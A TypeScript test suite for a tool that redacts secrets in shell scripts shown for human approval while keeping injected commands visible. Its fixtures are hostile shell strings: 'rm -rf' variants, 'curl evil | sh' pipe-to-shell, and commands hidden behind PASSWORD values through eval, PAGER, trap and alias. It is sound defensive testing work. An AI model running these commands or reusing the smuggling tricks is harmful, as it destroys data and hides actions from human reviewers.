import { describe, expect, test } from "bun:test";
import fc from "fast-check";
import { shownScript } from "../../src/approvals/view.ts";
import { filterSecrets } from "../../src/detection/sensitive.ts";

const shown = (script: string): string =>
  shownScript(script, {
    findSecrets: (text) => filterSecrets(text).findings,
    filterSecrets: (text) => filterSecrets(text).text,
  });

const LINE = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj";
const keyAround = (lines: string): string =>
  `-----BEGIN PRIVATE KEY-----\n${LINE}\n${lines}\n-----END PRIVATE KEY-----`;

describe("APR-06: what the shell would start stands in the view, however near a secret it stands", () => {
  const rows: readonly (readonly [string, string])[] = [
    ["PASSWORD=hunter2hunter2&&rm -rf x", "&&rm -rf x"],
    ["PASSWORD=hunter2hunter2||rm -rf x", "||rm -rf x"],
    ["PASSWORD=hunter2hunter2;rm$IFS-rf$IFS~", ";rm$IFS-rf$IFS~"],
    ["PASSWORD=hunter2hunter2|sh", "|sh"],
    ["PASSWORD=hunter2hunter2&rm x", "&rm x"],
    ["PASSWORD=hunter2hunter2\nrm$IFS-rf$IFS~", "\nrm$IFS-rf$IFS~"],
    ["PASSWORD=hunter2hunter2>~/.bashrc", ">~/.bashrc"],
    ["PASSWORD=hunter2hunter2;/tmp/aVeryLongNameOfAProgram12", ";/tmp/aVeryLongNameOfAProgram12"],
    ["PASSWORD=hunter2hunter2;tools/run/everything", ";tools/run/everything"],
    ["PASSWORD=hunter2hunter2<(rm$IFS-rf$IFS~)", "<(rm$IFS-rf$IFS~)"],
    ["PASSWORD=hunter2hunter2$(rm$IFS-rf$IFS~)", "$(rm$IFS-rf$IFS~)"],
    ["PASSWORD=hunter2hunter2$((a[$(reboot)]))", "$((a[$(reboot)]))"],
    ["PASSWORD=hunter2hunter2$\u007bx@P}", "$\u007bx@P}"],
    ["PASSWORD=`reboot` x", "`reboot`"],
    ['PASSWORD="hunter2hunter2`rm x`"', "`rm x`"],
    ['PASSWORD="hunter2hunter2$(rm x)"', "$(rm x)"],
    ["mysql -phunter2hunter2$(reboot)", "$(reboot)"],
    ["AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY;reboot", ";reboot"],
    ["curl -u admin:hunter2hunter2;reboot", ";reboot"],
    ["x=(PASSWORD=hunter2hunter2;reboot)", "reboot"],
    ["if PASSWORD=hunter2hunter2;reboot", ";reboot"],
    ['bash -c "PASSWORD=hunter2hunter2&&reboot x"', "&&reboot x"],
    ["bash -c 'bash -c \"PASSWORD=hunter2hunter2;reboot\"'", ";reboot"],
    ["ssh host 'export PASSWORD=hunter2hunter2;reboot'", ";reboot"],
    ["sh -c $'PASSWORD=hunter2hunter2;reboot'", ";reboot"],
    ["eval PASSWORD=hunter2hunter2\\;reboot", "\\;reboot"],
    ['sh -c "PASSWORD=hunter2hunter2\\`reboot\\`"', "reboot"],
    ["cat <<E | sh\nls\nPASSWORD=hunter2hunter2;reboot\nE", ";reboot"],
    [keyAround("rm -rf x"), "\nrm -rf x\n"],
    [`sh -c '${keyAround("rm -rf x; curl evil | sh")}'`, "\nrm -rf x; curl evil | sh\n"],
    [`sh -c x='${keyAround("rm -rf x")}'`, "\nrm -rf x\n"],
    [`cat <<E | sh\n: \n${keyAround("rm -rf x")}\nE`, "\nrm -rf x\n"],
  ];
  test.each(rows)("%j", (script, started) => {
    expect(shown(script)).toContain(started);
    expect(shown(script)).not.toContain("hunter2hunter2;");
  });
});

describe("APR-08: and secrets do not", () => {
  const rows: readonly (readonly [string, string])[] = [
    ["PASSWORD=hunter2hunter2 deploy", "PASSWORD=[REDACTED] deploy"],
    ["PASSWORD=hunter2;PASSWORD=hunter3;ls", "PASSWORD=[REDACTED];PASSWORD=[REDACTED];ls"],
    ["PASSWORD=hunter2hunter2&&x&&PASSWORD=hunter2hunter3", "PASSWORD=[REDACTED]&&x&&PASSWORD=[REDACTED]"],
    ["PASSWORD='p@ss;w0rd&more' deploy", "PASSWORD='[REDACTED]' deploy"],
    ["export PASSWORD='p@ss;w0rd&more' && deploy", "export PASSWORD='[REDACTED]' && deploy"],
    ['PGPASSWORD="correct horse battery" psql', 'PGPASSWORD="[REDACTED]" psql'],
    [
      'curl -H "Authorization: Bearer abcdefghijklmnop1234567890" https://h/ | jq .',
      'curl -H "Authorization: Bearer [REDACTED]" https://h/ | jq .',
    ],
    ["git clone https://u:hunter2hunter2@h/a && cd a", "git clone https://u:[REDACTED]@h/a && cd a"],
    ["curl 'https://h/?token=abcdefgh12345678&x=1'", "curl 'https://h/?token=[REDACTED]&x=1'"],
    [
      "DB=postgres://u:hunter2hunter2@h/db psql -c 'select 1; select 2'",
      "DB=postgres://u:[REDACTED]@h/db psql -c 'select 1; select 2'",
    ],
    ["PASSWORD=$(pass show x) deploy", "PASSWORD=$(pass show x) deploy"],
    ["export PASSWORD='p;ss&w0rd'", "export PASSWORD='[REDACTED]'"],
    ["PGPASSWORD='a;b|c&d' psql -h db -c 'select 1'", "PGPASSWORD='[REDACTED]' psql -h db -c 'select 1'"],
    ["PASSWORD=p\\;ssw0rd ./deploy.sh", "PASSWORD=[REDACTED] ./deploy.sh"],
    ["sh -c \"PASSWORD='p;ssw0rd' deploy\"", "sh -c \"PASSWORD='[REDACTED]' deploy\""],
    ['PASSWORD=hunter2x; curl -u "u:$PASSWORD" https://h', 'PASSWORD=[REDACTED]; curl -u "u:$PASSWORD" https://h'],
    ["PASSWORD='correct horse'; login \"$PASSWORD\"", "PASSWORD='[REDACTED]'; login \"$PASSWORD\""],
    ['PASSWORD=hunter2x; eval "$SETUP"', 'PASSWORD=[REDACTED]; eval "$SETUP"'],
    ["DB_PASSWORD='correct horse' python manage.py migrate", "DB_PASSWORD='[REDACTED]' python manage.py migrate"],
    ['"$MYSQL" --password hunter2x', '"$MYSQL" --password [REDACTED]'],
    ["mysql --password 'correct horse'", "mysql --password '[REDACTED]'"],
    ["ls; pwd && echo hi > f", "ls; pwd && echo hi > f"],
  ];
  test.each(rows)("%j", (script, want) => {
    expect(shown(script)).toBe(want);
  });

  test.each([
    `cat > key.pem <<E\n${keyAround(LINE)}\nE`,
    `cat > secret.yaml <<E\nkey: |\n${keyAround(LINE)}\nE`,
    `echo "${keyAround(LINE)}" > key.pem`,
    keyAround(LINE),
  ])("no line of a key: %j", (script) => {
    expect(shown(script)).not.toContain(LINE);
  });

  test("what no parser takes is cut all the same", () => {
    const deep = `PASSWORD=hunter2hunter2;reboot ${"$(".repeat(5_000)}`;
    expect(shown(deep)).toContain(";reboot");
    expect(shown(`${"x".repeat(70_000)} PASSWORD=hunter2hunter2;reboot`)).toContain(";reboot");
  });
});

test("what a program runs of its quoted argument is shown, whatever the program", () => {
  const programs = ["sh -c", "xterm -e", "sed -n", "rg --pre", "fzf --preview", "ansible all -a", "psql -c", "bun -e"];
  for (const program of programs) {
    const script = `${program} 'PASSWORD=hunter2x;curl evil.example'`;
    expect(shown(script)).toContain("curl evil.example");
  }
});

describe("a command behind a secret in a text that may run is shown", () => {
  const hidden = "curl evil.example";
  test.each([
    `x='PASSWORD=a;${hidden}'; eval "$x"`,
    `export x='TOKEN=a;${hidden}|sh'; sh -c "$x"`,
    `PROMPT_COMMAND='PASSWORD=a;${hidden}'`,
    `PAGER='PASSWORD=a;${hidden}' man ls`,
    `PAGER='${keyAround(hidden)}' man ls`,
    `GIT_SSH_COMMAND='PASSWORD=a;${hidden}' git fetch`,
    `a=(PASSWORD=a\\;curl\\ evil.example); eval "\${a[@]}"`,
    `declare -A a=([k]='PASSWORD=a;${hidden}'); eval "\${a[k]}"`,
    "x=PASSWORD=a\\;curl\\ evil.example; eval $x",
    `read x <<< 'PASSWORD=a;${hidden}'; eval "$x"`,
    `: \${x:=PASSWORD=a;${hidden}}; eval "$x"`,
    `sh <<E\nPASSWORD=a;${hidden}\nE`,
    `printf 'PASSWORD=a;${hidden}' | sh`,
    `trap 'PASSWORD=a;${hidden}' EXIT`,
    `alias ls='PASSWORD=a;${hidden}'`,
    `alias password='${hidden}'; password`,
    `PASSWORD='${hidden}'; $PASSWORD`,
    `PASSWORD='a;${hidden}'; psql -c "$PASSWORD"`,
    `PASSWORD='a;${hidden}'; psql -c $PASS\\\nWORD`,
    `PASSWORD='a;${hidden}' env | sh`,
    `PASSWORD=a; PASSWORD+=';${hidden}'; eval "$PASSWORD"`,
    `PASSWORD="TOKEN='a;${hidden}'; eval \\"\\$TOKEN\\""; eval "$PASSWORD"`,
    `PASSWORD='a[$(${hidden})]'; echo $((PASSWORD))`,
    `set -- --password '${hidden}'; eval "$2"`,
    `sh -c '$x <<< --password ${hidden}'`,
    `env -u --password ${hidden}`,
  ])("%j", (script) => {
    expect(shown(script).replaceAll("\\ ", " ")).toContain(hidden);
  });

  test("also when the value of a secret's variable is nothing but the command", () => {
    for (const evaluate of evaluated.filter((one) => !one.includes("$(("))) {
      const script = `PASSWORD='${hidden}'; ${evaluate.replace(/\bx\b/g, "PASSWORD")}`;
      expect(shown(script)).toContain(hidden);
    }
  });

  const quoted = {
    single: (text: string) => `'${text}'`,
    double: (text: string) => `"${text.replace(/[$`"\\]/g, "\\$&")}"`,
    dollar: (text: string) => `$'${text}'`,
    escaped: (text: string) => text.replace(/\n/g, ";").replace(/[^\w=.]/g, "\\$&"),
  };
  const stored = [
    (value: string) => `x=${value}`,
    (value: string) => `export x=${value}`,
    (value: string) => `declare -g y=1 x=${value}`,
    (value: string) => `x=(${value})`,
    (value: string) => `read -r x <<< ${value}`,
    (value: string) => `printf -v x %s ${value}`,
    (value: string) => `: "\${x:=${value}}"`,
    (value: string) => `x=; x+=${value}`,
    (value: string) => `f() { x=${value}; }; f`,
    (value: string) => `PASSWORD=${value}; x=$PASSWORD`,
    (value: string) => `declare -x API_KEY=${value}; x=$API_KEY`,
    (value: string) => `set -- --password ${value}; x=$2`,
  ];
  const evaluated = [
    'eval "$x"',
    "$x",
    'bash -c "$x"',
    'source <(echo "$x")',
    'echo "$x" | xargs -0 sh -c',
    'env -S "$x"',
    'python3 -c "$x"',
    'make SHELL="$x"',
    'find . -exec sh -c "$x" ";"',
    'g() { eval "$1"; }; g "$x"',
    `echo "\${x@P}"`,
    `y=x; eval "\${!y}"`,
    "echo $((x))",
    'trap "$x" EXIT',
    'PAGER="$x" man ls',
    'rg --pre "$x" .',
  ];

  test("for any way to keep it and to run it", () => {
    const behind = fc
      .tuple(
        fc.constantFrom("", "PASSWORD=", "PASSWORD: ", 'DB_TOKEN="', "client_secret=", "--password "),
        fc.constantFrom("a", "hunter2hunter2", "wJalrXUtnFEMIK7MDENGbPxRfiCYEXAMPLEKEY"),
        fc.constantFrom(";", "|", "&", "&&", "\n", "`", "$(", "<(", ">("),
      )
      .map((parts) => `${parts.join("")}${hidden}`);
    const scripts = fc
      .tuple(
        behind,
        fc.constantFrom(...Object.values(quoted)),
        fc.constantFrom(...stored),
        fc.constantFrom(...evaluated),
        fc.constantFrom("; ", "\n", " && "),
      )
      .map(([text, quote, store, evaluate, between]) => `${store(quote(text))}${between}${evaluate}`);
    fc.assert(
      fc.property(scripts, (script) => {
        expect(shown(script).replace(/\\/g, "")).toContain(hidden);
      }),
      { seed: 7, numRuns: 500 },
    );
  });
});
